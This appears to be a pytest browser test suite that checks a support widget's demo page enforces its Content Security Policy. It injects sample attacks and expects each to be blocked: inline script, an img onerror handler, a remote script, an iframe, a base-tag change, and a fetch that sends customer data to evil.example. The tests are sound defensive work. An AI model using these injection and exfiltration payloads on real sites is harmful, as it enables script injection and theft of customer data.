"""What the page on which a widget is tried lets run, load and see it, in a real browser."""

import pytest

from reamaze_gui.try_server import TryServer
from tests.browser import Browser
from tests.cdn import CDN
from tests.try_pages import ZOE, page_for, told

INJECTED = """
const script = document.createElement("script");
script.textContent = "injected = 1";
document.head.append(script);
document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='injected = 2'>");
"""


@pytest.mark.parametrize(
    ("attack", "refused"),
    [
        pytest.param(INJECTED, "script-src-elem", id="a script in the page"),
        pytest.param(
            "document.head.append(Object.assign(document.createElement('script'),"
            "{src: 'https://evil.example/x.js'}))",
            "script-src-elem",
            id="a script from elsewhere",
        ),
        pytest.param(
            "fetch('https://evil.example/?' + JSON.stringify(_support)).catch(() => 0)",
            "connect-src",
            id="a request that carries the customer away",
        ),
        pytest.param(
            "document.body.append(Object.assign(document.createElement('iframe'),"
            "{src: 'https://evil.example/'}))",
            "frame-src",
            id="a page in the page",
        ),
        pytest.param(
            "document.head.append(Object.assign(document.createElement('base'),"
            "{href: 'https://evil.example/'}))",
            "base-uri",
            id="another base",
        ),
    ],
)
def test_what_is_injected_does_not_run_and_the_page_says_so(
    attack: str,
    refused: str,
    browser: Browser,
    server: TryServer,
) -> None:
    server.page = page_for(ZOE)
    browser.open(server.address)
    browser.run(f"(() => {{ {attack} }})()")
    browser.wait_for(lambda: f"({refused})" in told(browser))
    assert browser.run("typeof injected") == "undefined"


# Each gives a promise that is kept once the browser has tried; only the CDN can be reached here.
NEEDED = {
    "data": f"fetch('https://{CDN}/data', {{mode: 'no-cors'}})",
    "a page": f"added('iframe', {{src: 'https://{CDN}/shoutbox'}})",
    "another script": f"added('script', {{src: 'https://{CDN}/assets/reamaze.js'}})",
    "a style sheet": f"added('link', {{rel: 'stylesheet', href: 'https://{CDN}/x.css'}})",
    "a style": "added('style', {textContent: 'main {border-left: 7px solid}'})",
    "a picture": "added('img', {src: 'https://pictures.example/zoe.png'})",
    "messages": "new Promise(then => new WebSocket('wss://push.reamaze.com/').onclose = then)",
}
ADDED = """
const added = (tag, properties) => new Promise((then) => {
  const element = document.createElement(tag);
  document.body.append(Object.assign(element, properties, {onload: then, onerror: then}));
});
"""


@pytest.mark.parametrize("what", NEEDED)
def test_what_the_widget_needs_is_allowed(what: str, browser: Browser, server: TryServer) -> None:
    server.page = page_for(ZOE)
    browser.open(server.address, before=ADDED)
    browser.run(f"{NEEDED[what]}.then(() => 'tried')")
    assert browser.run("document.getElementById('refused').hidden")
    assert "Content Security Policy" not in "".join(browser.complaints())


def test_no_other_page_can_show_or_read_it(browser: Browser, server: TryServer) -> None:
    server.page = page_for(ZOE)
    before = server.visits
    browser.open(f"data:text/html,<iframe src='{server.address}'></iframe>")
    read = f"fetch('{server.address}').then(each => each.text(), () => 'nothing')"
    assert browser.run(read) == "nothing"
    assert server.visits == before
